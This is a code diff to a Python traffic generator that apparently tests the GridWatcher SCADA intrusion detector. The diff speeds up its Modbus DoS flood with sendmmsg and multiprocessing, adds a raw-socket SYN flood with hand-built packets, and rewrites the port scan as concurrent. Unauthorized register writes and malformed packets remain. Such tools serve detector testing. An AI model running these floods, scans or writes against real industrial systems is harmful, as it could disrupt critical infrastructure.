@@ -4,13 +4,22 @@ Grid-Watcher Traffic Generator - Real TCP/Modbus Traffic Simulator
 Generates various attack patterns for testing GridWatcher
 """
 
+import ctypes
+import ctypes.util
+import errno
+import functools
+import multiprocessing
+import os
+import queue
 import socket
 import time
 import random
+import selectors
 import struct
 import sys
 import threading
-from typing import List, Tuple
+from concurrent.futures import ThreadPoolExecutor
+from typing import Dict, List, Optional, Tuple
 
 # ANSI Colors
 RED = '\033[91m'
@@ -19,6 +28,7 @@ YELLOW = '\033[93m'
 BLUE = '\033[94m'
 RESET = '\033[0m'
 
+@functools.lru_cache(maxsize=1)
 def get_local_ip():
     """Get local IP address"""
     try:
@@ -27,9 +37,107 @@ def get_local_ip():
         ip = s.getsockname()[0]
         s.close()
         return ip
-    except:
+    except OSError:
         return "127.0.0.1"
 
+def set_low_latency(s: socket.socket):
+    """Put every small frame on the wire immediately"""
+    # Nagle would coalesce back-to-back 12-byte frames
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    if hasattr(socket, 'TCP_QUICKACK'):
+        # Linux only and not sticky: the kernel drops back to delayed ACKs
+        # on its own, so this only speeds up the ACKs right after connect
+        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_QUICKACK, 1)
+
+def inet_checksum(data: bytes) -> int:
+    """RFC 1071 one's-complement checksum"""
+    if len(data) % 2:
+        data += b'\0'
+    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
+    total = (total >> 16) + (total & 0xFFFF)
+    total += total >> 16
+    return ~total & 0xFFFF
+
+def create_syn_packet(src_ip: str, dst_ip: str, src_port: int,
+                      dst_port: int, seq: int) -> bytes:
+    """Create a 40-byte IPv4 + TCP SYN for an IP_HDRINCL raw socket"""
+    src = socket.inet_aton(src_ip)
+    dst = socket.inet_aton(dst_ip)
+    
+    # TCP header (20 bytes, no options)
+    tcp = struct.pack(
+        '!HHIIBBHHH',
+        src_port, dst_port,
+        seq,             # Sequence number
+        0,               # Ack number
+        5 << 4,          # Data offset (5 words)
+        0x02,            # Flags: SYN
+        65535,           # Window
+        0,               # Checksum (filled below)
+        0                # Urgent pointer
+    )
+    pseudo = src + dst + struct.pack('!BBH', 0, socket.IPPROTO_TCP, len(tcp))
+    tcp = tcp[:16] + struct.pack('!H', inet_checksum(pseudo + tcp)) + tcp[18:]
+    
+    # IPv4 header (20 bytes)
+    ip = struct.pack(
+        '!BBHHHBBH4s4s',
+        0x45,            # Version 4, IHL 5
+        0,               # TOS
+        40,              # Total length
+        seq & 0xFFFF,    # Identification
+        0,               # Flags / fragment offset
+        64,              # TTL
+        socket.IPPROTO_TCP,
+        0,               # Checksum (filled below)
+        src, dst
+    )
+    ip = ip[:10] + struct.pack('!H', inet_checksum(ip)) + ip[12:]
+    
+    return ip + tcp
+
+RAND_CHUNK = 1024
+
+# One shared wait for every in-flight port_scan handshake
+SCAN_TIMEOUT = 0.5
+
+# Frames a producer may get ahead of the sender thread in mixed_attack
+SEND_QUEUE_DEPTH = 1024
+
+PROGRESS_EVERY = 50
+PROGRESS_FMT = b"\r  >> %s sent: %d | Rate: %.2f pkt/s"
+
+def write_progress(label: bytes, count: int, elapsed_ns: int, raw: bool = True):
+    """Overwrite the progress line, skipping print()'s str formatting and encoding"""
+    line = PROGRESS_FMT % (label, count, count * 1e9 / elapsed_ns)
+    # StringIO and IDLE have no byte buffer; threaded callers share the text
+    # layer with print() so their lines do not interleave mid-write
+    out = getattr(sys.stdout, 'buffer', None) if raw else None
+    if out is None:
+        sys.stdout.write(line.decode())
+        sys.stdout.flush()
+    else:
+        out.write(line)
+        out.flush()
+
+# Below this much remaining wait, spin instead of paying sleep() jitter
+SPIN_THRESHOLD_NS = 200_000
+
+def pace(deadline_ns: int):
+    """Block until time.monotonic_ns() reaches deadline_ns"""
+    remaining = deadline_ns - time.monotonic_ns()
+    if remaining > SPIN_THRESHOLD_NS:
+        time.sleep((remaining - SPIN_THRESHOLD_NS) / 1e9)
+    while time.monotonic_ns() < deadline_ns:
+        pass
+
+# One generator for every scenario; skips the module-level function wrappers
+_rng = random.Random()
+
+def draw_ints(lo: int, hi: int, k: int) -> List[int]:
+    """Pre-draw k random integers in [lo, hi] with a single call"""
+    return _rng.choices(range(lo, hi + 1), k=k)
+
 def create_modbus_request(transaction_id: int, unit_id: int = 1, 
                          function_code: int = 3, address: int = 100, 
                          count: int = 10) -> bytes:
@@ -53,95 +161,386 @@ def create_modbus_request(transaction_id: int, unit_id: int = 1,
     
     return mbap + pdu
 
+MODBUS_FRAME_LEN = 12
+MMSG_BATCH = 64
+
+# Floods at or above this rate skip pacing and batch frames per sendmmsg.
+# The kernel may then merge frames into segments GridWatcher cannot parse,
+# so it sits well above the menu's advertised range.
+UNTHROTTLED_RATE = 100_000
+
+# Linux value; the socket module does not export this name
+TCP_FASTOPEN_CONNECT = getattr(socket, 'TCP_FASTOPEN_CONNECT', 30)
+
+# sendmmsg(2) is not exposed by the socket module; reach it through libc
+class _IoVec(ctypes.Structure):
+    _fields_ = [('iov_base', ctypes.c_void_p),
+                ('iov_len', ctypes.c_size_t)]
+
+class _MsgHdr(ctypes.Structure):
+    _fields_ = [('msg_name', ctypes.c_void_p),
+                ('msg_namelen', ctypes.c_uint32),
+                ('msg_iov', ctypes.POINTER(_IoVec)),
+                ('msg_iovlen', ctypes.c_size_t),
+                ('msg_control', ctypes.c_void_p),
+                ('msg_controllen', ctypes.c_size_t),
+                ('msg_flags', ctypes.c_int)]
+
+class _MMsgHdr(ctypes.Structure):
+    _fields_ = [('msg_hdr', _MsgHdr),
+                ('msg_len', ctypes.c_uint)]
+
+def _load_sendmmsg():
+    """Resolve libc sendmmsg, or None where it is unavailable"""
+    if not sys.platform.startswith('linux'):
+        return None
+    try:
+        libc = ctypes.CDLL(ctypes.util.find_library('c') or 'libc.so.6', use_errno=True)
+        fn = libc.sendmmsg
+    except (OSError, AttributeError):
+        return None
+    fn.argtypes = [ctypes.c_int, ctypes.POINTER(_MMsgHdr), ctypes.c_uint, ctypes.c_int]
+    fn.restype = ctypes.c_int
+    return fn
+
+_sendmmsg = _load_sendmmsg()
+
+@functools.lru_cache(maxsize=1)
+def build_frame_table() -> bytes:
+    """Every default read frame, indexed by transaction ID (~768 KiB, built once)"""
+    return b''.join(create_modbus_request(tid) for tid in range(0x10000))
+
+def burst_size(rate: int, throttle: bool) -> int:
+    """Frames per send_batch call for a flood at rate"""
+    # TCP may coalesce back-to-back frames into one segment, and GridWatcher
+    # parses each segment as a single frame. Paced floods therefore send one
+    # frame per deadline; unthrottled floods batch for raw throughput.
+    if throttle:
+        return 1
+    return min(MMSG_BATCH, max(1, rate // 100))
+
+class FrameBatch:
+    """Preallocated run of Modbus frames that differ only in transaction ID"""
+    def __init__(self, size: int = MMSG_BATCH):
+        self.size = size
+        self.buf = bytearray(create_modbus_request(0) * size)
+        self.msgs = (_MMsgHdr * size)()
+        self._iovs = (_IoVec * size)()
+        
+        base = ctypes.addressof(ctypes.c_char.from_buffer(self.buf))
+        for i in range(size):
+            self._iovs[i].iov_base = base + i * MODBUS_FRAME_LEN
+            self._iovs[i].iov_len = MODBUS_FRAME_LEN
+            self.msgs[i].msg_hdr.msg_iov = ctypes.pointer(self._iovs[i])
+            self.msgs[i].msg_hdr.msg_iovlen = 1
+    
+    def stamp(self, first_tid: int, n: int):
+        """Write consecutive transaction IDs into the first n frames"""
+        # Slice-copy prebuilt frames instead of packing each ID in Python
+        table = build_frame_table()
+        start = (first_tid & 0xFFFF) * MODBUS_FRAME_LEN
+        end = start + n * MODBUS_FRAME_LEN
+        if end <= len(table):
+            self.buf[:end - start] = table[start:end]
+        else:
+            split = len(table) - start
+            self.buf[:split] = table[start:]
+            self.buf[split:end - start] = table[:end - len(table)]
+
 class TrafficGenerator:
     def __init__(self, target_ip: str, target_port: int = 502):
         self.target_ip = target_ip
         self.target_port = target_port
         self.packets_sent = 0
         self.running = True
+        self._pool: Dict[int, socket.socket] = {}
+        self._pool_lock = threading.Lock()
+        self._executor: Optional[ThreadPoolExecutor] = None
+        self._send_queue: Optional[queue.Queue] = None
         
-    def send_packet(self, data: bytes, port: int = None) -> bool:
-        """Send a single packet"""
-        try:
-            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-            s.settimeout(0.1)
-            
-            actual_port = port if port else self.target_port
-            s.connect((self.target_ip, actual_port))
-            s.send(data)
+        # Reusable frames: only transaction ID, address and count get patched
+        self._tmpl = bytearray(create_modbus_request(0, function_code=3, address=100, count=10))
+        self._write_tmpl = bytearray(create_modbus_request(0, function_code=0x10, address=0, count=1))
+    
+    def _connect(self, port: int) -> Optional[socket.socket]:
+        """Open and connect a new socket to the target, or None if unreachable"""
+        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
+        if sys.platform.startswith('linux'):
+            # With a cached cookie the SYN carries the first frame; without
+            # one connect_ex still runs the normal handshake and reports errors
+            try:
+                s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
+            except OSError:
+                pass  # Kernel older than 4.11: normal handshake
+        s.settimeout(0.1)
+        
+        # connect_ex reports refused/timed-out ports as an errno instead of raising
+        if s.connect_ex((self.target_ip, port)) != 0:
             s.close()
-            
+            return None
+        set_low_latency(s)
+        return s
+    
+    def _get_conn(self, port: int) -> Optional[socket.socket]:
+        """Get a pooled connection for port, connecting on first use"""
+        with self._pool_lock:
+            s = self._pool.get(port)
+            if s is None:
+                s = self._connect(port)
+                if s is not None:
+                    self._pool[port] = s
+            return s
+    
+    def _release(self, port: int):
+        """Drop a broken pooled connection so the next send reconnects"""
+        with self._pool_lock:
+            s = self._pool.pop(port, None)
+        if s is not None:
+            s.close()
+    
+    def _get_executor(self) -> ThreadPoolExecutor:
+        """Worker threads for mixed_attack, started on first use"""
+        if self._executor is None:
+            self._executor = ThreadPoolExecutor(max_workers=8)
+        return self._executor
+    
+    def close_all(self):
+        """Close every pooled connection and stop the worker threads"""
+        if self._executor is not None:
+            self._executor.shutdown(wait=False)
+            self._executor = None
+        with self._pool_lock:
+            for s in self._pool.values():
+                s.close()
+            self._pool.clear()
+    
+    def send_packet(self, data: bytes, port: int = None) -> bool:
+        """Send a single packet on the pooled connection"""
+        actual_port = port if port else self.target_port
+        
+        if self._send_queue is not None:
+            # Copy: callers keep patching their templates after we return
+            self._send_queue.put((bytes(data), actual_port))
+            return True
+        
+        if self._send_pooled(data, actual_port):
             self.packets_sent += 1
             return True
-        except:
+        return False
+    
+    def _send_pooled(self, data: bytes, port: int) -> bool:
+        """Write data on the pooled connection for port"""
+        try:
+            s = self._get_conn(port)
+            if s is None:
+                return False
+            s.sendall(data)
+            return True
+        except OSError:
+            self._release(port)
             return False
     
+    def _sender_loop(self, q: queue.Queue):
+        """Consumer side of mixed_attack: drain queued frames onto the pool"""
+        # One send per item: GridWatcher parses each TCP segment as a single frame
+        while True:
+            item = q.get()
+            if item is None:
+                break
+            data, port = item
+            if self._send_pooled(data, port):
+                self.packets_sent += 1
+    
+    def send_batch(self, batch: FrameBatch, n: int) -> int:
+        """Send the first n frames of batch, returning how many went out"""
+        if self._send_queue is not None:
+            for i in range(n):
+                frame = bytes(batch.buf[i * MODBUS_FRAME_LEN:(i + 1) * MODBUS_FRAME_LEN])
+                self._send_queue.put((frame, self.target_port))
+            return n
+        
+        try:
+            s = self._get_conn(self.target_port)
+            if s is None:
+                return 0
+            
+            if _sendmmsg is None:
+                # One send per frame; a single sendall would emit multi-frame segments
+                view = memoryview(batch.buf)
+                for i in range(n):
+                    s.sendall(view[i * MODBUS_FRAME_LEN:(i + 1) * MODBUS_FRAME_LEN])
+                    self.packets_sent += 1
+                return n
+            
+            sent = _sendmmsg(s.fileno(), batch.msgs, n, socket.MSG_DONTWAIT)
+            if sent < 0:
+                err = ctypes.get_errno()
+                if err in (errno.EAGAIN, errno.EWOULDBLOCK):
+                    return 0
+                raise OSError(err, os.strerror(err))
+            
+            # Finish a frame the kernel only partly queued to keep the stream aligned
+            if sent and batch.msgs[sent - 1].msg_len < MODBUS_FRAME_LEN:
+                start = (sent - 1) * MODBUS_FRAME_LEN + batch.msgs[sent - 1].msg_len
+                s.sendall(memoryview(batch.buf)[start:sent * MODBUS_FRAME_LEN])
+            
+            self.packets_sent += sent
+            return sent
+        except OSError:
+            self._release(self.target_port)
+            return 0
+    
     def normal_traffic(self, duration: int = 10, rate: int = 10):
         """Generate normal SCADA traffic"""
         print(f"\n{GREEN}[NORMAL]{RESET} Generating normal traffic...")
         print(f"  Duration: {duration}s | Rate: {rate} pps")
         
-        start = time.time()
+        start_ns = time.monotonic_ns()
+        end_ns = start_ns + duration * 10**9
+        interval_ns = 10**9 // rate
         tid = 1
+        addrs: List[int] = []
+        counts: List[int] = []
         
-        while time.time() - start < duration and self.running:
-            packet = create_modbus_request(
-                tid, 
-                unit_id=1,
-                function_code=3,  # Read Holding Registers
-                address=random.randint(100, 200),
-                count=random.randint(1, 10)
-            )
+        while time.monotonic_ns() < end_ns and self.running:
+            if not addrs:
+                addrs = draw_ints(100, 200, RAND_CHUNK)
+                counts = draw_ints(1, 10, RAND_CHUNK)
+            
+            # Read Holding Registers
+            struct.pack_into('>H', self._tmpl, 0, tid & 0xFFFF)
+            struct.pack_into('>HH', self._tmpl, 8, addrs.pop(), counts.pop())
             
-            self.send_packet(packet)
+            self.send_packet(self._tmpl)
+            pace(start_ns + tid * interval_ns)
             tid += 1
-            time.sleep(1.0 / rate)
         
         print(f"  ✓ Sent {self.packets_sent} normal packets")
     
-    def dos_attack(self, duration: int = 10, rate: int = 1000):
+    def dos_attack(self, duration: int = 10, rate: int = 1000, workers: int = 1):
         """Simulate DoS flood attack"""
         print(f"\n{RED}[DOS FLOOD]{RESET} Simulating DoS attack...")
-        print(f"  Duration: {duration}s | Rate: {rate} pps")
+        # Every worker needs at least one packet per second
+        workers = max(1, min(workers, rate))
+        print(f"  Duration: {duration}s | Rate: {rate} pps | Workers: {workers}")
         
-        start = time.time()
-        tid = 10000
+        if workers > 1:
+            self._flood_parallel(duration, rate, workers)
+        else:
+            sys.stdout.flush()  # Progress goes to the byte buffer underneath
+            self._flood(duration, rate, 10000, rate < UNTHROTTLED_RATE, progress=True)
+            print()
         
-        while time.time() - start < duration and self.running:
-            packet = create_modbus_request(tid)
-            self.send_packet(packet)
-            tid += 1
+        print(f"  ✓ Sent {self.packets_sent} attack packets")
+    
+    def _flood(self, duration: int, rate: int, tid: int, throttle: bool,
+               progress: bool = False):
+        """Send read frames in bursts for duration seconds"""
+        start_ns = time.monotonic_ns()
+        end_ns = start_ns + duration * 10**9
+        frames = 0
+        bursts = 0
+        
+        n = burst_size(rate, throttle)
+        batch = FrameBatch(n)
+        
+        while time.monotonic_ns() < end_ns and self.running:
+            batch.stamp(tid, n)
+            self.send_batch(batch, n)
+            tid += n
+            frames += n
+            bursts += 1
+            
+            if progress and bursts % PROGRESS_EVERY == 0:
+                write_progress(b"Attacks", self.packets_sent, time.monotonic_ns() - start_ns,
+                               raw=self._send_queue is None)
             
-            # Brief sleep to achieve target rate
-            if rate < 10000:
-                time.sleep(1.0 / rate)
+            # Hold each burst to its slot on the target-rate schedule
+            if throttle:
+                pace(start_ns + frames * 10**9 // rate)
+    
+    def _flood_parallel(self, duration: int, rate: int, workers: int):
+        """Shard the flood across processes, each with its own socket pool"""
+        counter = multiprocessing.Value('q', 0)
+        procs = [
+            multiprocessing.Process(
+                target=_dos_worker,
+                args=(self.target_ip, self.target_port, duration,
+                      # Spread the remainder so the shares add up to rate exactly
+                      rate // workers + (worker_id < rate % workers),
+                      rate < UNTHROTTLED_RATE,
+                      # Split the 16-bit transaction ID space evenly between workers
+                      (10000 + worker_id * (0x10000 // workers)) & 0xFFFF, counter))
+            for worker_id in range(workers)
+        ]
         
-        print(f"  ✓ Sent {self.packets_sent} attack packets")
+        for p in procs:
+            p.start()
+        
+        for p in procs:
+            p.join()
+        
+        self.packets_sent += counter.value
     
     def port_scan(self, start_port: int = 500, end_port: int = 520):
         """Simulate port scan attack"""
         print(f"\n{YELLOW}[PORT SCAN]{RESET} Scanning ports {start_port}-{end_port}...")
         
-        for port in range(start_port, end_port):
-            packet = create_modbus_request(port)
-            self.send_packet(packet, port=port)
-            time.sleep(0.1)
+        # Transaction ID = port, so the whole scan is one contiguous slice of the table
+        frames = memoryview(build_frame_table())[start_port * MODBUS_FRAME_LEN:
+                                                 end_port * MODBUS_FRAME_LEN]
+        sel = selectors.DefaultSelector()
+        reachable = 0
         
-        print(f"  ✓ Scanned {end_port - start_port} ports")
+        try:
+            # Fire every SYN up front...
+            for i, port in enumerate(range(start_port, end_port)):
+                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+                s.setblocking(False)
+                err = s.connect_ex((self.target_ip, port))
+                if err in (0, errno.EINPROGRESS, errno.EWOULDBLOCK):
+                    frame = frames[i * MODBUS_FRAME_LEN:(i + 1) * MODBUS_FRAME_LEN]
+                    sel.register(s, selectors.EVENT_WRITE, frame)
+                else:
+                    s.close()
+            
+            # ...then wait once for all the handshakes to resolve
+            deadline = time.monotonic() + SCAN_TIMEOUT
+            while sel.get_map():
+                remaining = deadline - time.monotonic()
+                if remaining <= 0:
+                    break
+                for key, _ in sel.select(remaining):
+                    s = key.fileobj
+                    sel.unregister(s)
+                    if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
+                        reachable += 1
+                        try:
+                            s.send(key.data)
+                            self.packets_sent += 1
+                        except OSError:
+                            pass
+                    s.close()
+        finally:
+            for key in list(sel.get_map().values()):
+                key.fileobj.close()
+            sel.close()
+        
+        print(f"  ✓ Scanned {end_port - start_port} ports ({reachable} open)")
     
     def unauthorized_write(self, count: int = 20):
         """Simulate unauthorized write attempts"""
         print(f"\n{RED}[UNAUTHORIZED WRITE]{RESET} Attempting {count} writes...")
         
+        addrs = draw_ints(0, 99, count)  # Critical registers
+        
         for i in range(count):
             # Function code 0x10 = Write Multiple Registers
-            packet = create_modbus_request(
-                100 + i,
-                function_code=0x10,  # Write Multiple Registers
-                address=random.randint(0, 99),  # Critical registers
-                count=1
-            )
-            self.send_packet(packet)
+            struct.pack_into('>H', self._write_tmpl, 0, (100 + i) & 0xFFFF)
+            struct.pack_into('>H', self._write_tmpl, 8, addrs[i])
+            self.send_packet(self._write_tmpl)
             time.sleep(0.2)
         
         print(f"  ✓ Sent {count} write attempts")
@@ -150,21 +549,63 @@ class TrafficGenerator:
         """Send malformed packets"""
         print(f"\n{RED}[MALFORMED]{RESET} Sending {count} malformed packets...")
         
+        lengths = draw_ints(5, 50, count)
+        
         for i in range(count):
             # Create invalid Modbus packets
-            malformed = bytes([random.randint(0, 255) for _ in range(random.randint(5, 50))])
+            malformed = os.urandom(lengths[i])
             self.send_packet(malformed)
             time.sleep(0.1)
         
         print(f"  ✓ Sent {count} malformed packets")
     
+    def syn_flood(self, duration: int = 10, rate: int = 1000):
+        """Simulate a stateless SYN flood with hand-built raw packets"""
+        print(f"\n{RED}[SYN FLOOD]{RESET} Simulating SYN flood...")
+        print(f"  Duration: {duration}s | Rate: {rate} pps")
+        
+        try:
+            s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
+            s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+        except OSError as e:
+            print(f"  {RED}✗{RESET} Raw sockets unavailable ({e}); run as root")
+            return
+        
+        src_ip = get_local_ip()
+        dest = (self.target_ip, 0)
+        sys.stdout.flush()  # Progress goes to the byte buffer underneath
+        start_ns = time.monotonic_ns()
+        end_ns = start_ns + duration * 10**9
+        interval_ns = 10**9 // rate
+        attempts = 0
+        sent = 0
+        
+        try:
+            while time.monotonic_ns() < end_ns and self.running:
+                packet = create_syn_packet(src_ip, self.target_ip,
+                                           _rng.randrange(1024, 65536),
+                                           self.target_port, _rng.getrandbits(32))
+                attempts += 1
+                try:
+                    s.sendto(packet, dest)
+                    sent += 1
+                    if sent % PROGRESS_EVERY == 0:
+                        write_progress(b"SYNs", sent, time.monotonic_ns() - start_ns)
+                except OSError:
+                    pass
+                
+                pace(start_ns + attempts * interval_ns)
+        finally:
+            s.close()
+        
+        self.packets_sent += sent
+        print(f"\n  ✓ Sent {sent} SYN packets")
+    
     def mixed_attack(self, duration: int = 30):
         """Simulate mixed attack scenario"""
         print(f"\n{RED}[MIXED ATTACK]{RESET} Running mixed attack for {duration}s...")
         
-        threads = []
-        
-        # Spawn multiple attack threads
+        # Attack tasks for the shared worker pool
         def dos_thread():
             for _ in range(5):
                 self.dos_attack(duration=2, rate=500)
@@ -180,18 +621,36 @@ class TrafficGenerator:
                 self.unauthorized_write(5)
                 time.sleep(2)
         
-        threads.append(threading.Thread(target=dos_thread))
-        threads.append(threading.Thread(target=scan_thread))
-        threads.append(threading.Thread(target=write_thread))
-        
-        for t in threads:
-            t.start()
+        # Attack tasks only build frames; one sender task writes them to the
+        # connection pool, so building overlaps with sends that release the GIL
+        executor = self._get_executor()
+        q = queue.Queue(maxsize=SEND_QUEUE_DEPTH)
+        sender = executor.submit(self._sender_loop, q)
+        self._send_queue = q
         
-        for t in threads:
-            t.join()
+        try:
+            list(executor.map(lambda f: f(), [dos_thread, scan_thread, write_thread]))
+        finally:
+            self._send_queue = None
+            q.put(None)
+            sender.result()
         
         print(f"  ✓ Mixed attack completed")
 
+def _dos_worker(target_ip: str, target_port: int, duration: int, rate: int,
+                throttle: bool, tid: int, counter):
+    """Process entry point for one shard of a parallel dos_attack"""
+    gen = TrafficGenerator(target_ip, target_port)
+    try:
+        gen._flood(duration, rate, tid, throttle)
+    except KeyboardInterrupt:
+        pass
+    finally:
+        gen.close_all()
+    
+    with counter.get_lock():
+        counter.value += gen.packets_sent
+
 def print_banner():
     print(f"""
 {BLUE}╔═══════════════════════════════════════════════════════════════════╗
@@ -212,7 +671,13 @@ def main():
     
     print(f"Target: {TARGET_IP}:{TARGET_PORT}")
     print(f"\n{YELLOW}⚠️  Make sure Grid-Watcher is running!{RESET}\n")
-    time.sleep(2)
+    try:
+        delay = float(os.environ.get("GW_STARTUP_DELAY", "0"))
+    except ValueError:
+        delay = 0.0
+    # Negative, inf and nan would make time.sleep() raise
+    if 0 < delay < float('inf'):
+        time.sleep(delay)
     
     gen = TrafficGenerator(TARGET_IP, TARGET_PORT)
     
@@ -226,18 +691,23 @@ def main():
     print("5. Malformed Packets")
     print("6. Mixed Attack (realistic scenario)")
     print("7. Full Test Suite (all scenarios)")
+    print("8. SYN Flood (raw sockets, needs root)")
     print("═" * 70)
     
     try:
-        choice = input("\nSelect scenario (1-7): ").strip()
+        choice = input("\nSelect scenario (1-8): ").strip()
         
         if choice == '1':
             gen.normal_traffic(duration=30, rate=10)
         
         elif choice == '2':
+            print(f"  (Rates of {UNTHROTTLED_RATE}+ send unpaced batches; GridWatcher "
+                  f"may drop the merged segments)")
             rate = int(input("Packets per second (100-10000): ") or "1000")
             duration = int(input("Duration in seconds (5-60): ") or "10")
-            gen.dos_attack(duration=duration, rate=rate)
+            cpus = os.cpu_count() or 1
+            workers = int(input(f"Worker processes (1-{cpus}): ") or "1")
+            gen.dos_attack(duration=duration, rate=rate, workers=workers)
         
         elif choice == '3':
             gen.port_scan(500, 520)
@@ -292,6 +762,11 @@ def main():
             print(f"\n{GREEN}✓ Full test suite completed!{RESET}")
             print(f"  Total packets sent: {gen.packets_sent}")
         
+        elif choice == '8':
+            rate = int(input("Packets per second (100-10000): ") or "1000")
+            duration = int(input("Duration in seconds (5-60): ") or "10")
+            gen.syn_flood(duration=duration, rate=rate)
+        
         else:
             print(f"{RED}Invalid choice{RESET}")
             return
@@ -308,6 +783,8 @@ def main():
         gen.running = False
     except Exception as e:
         print(f"\n{RED}[ERROR]{RESET} {e}")
+    finally:
+        gen.close_all()
 
 if __name__ == "__main__":
     main()
\ No newline at end of file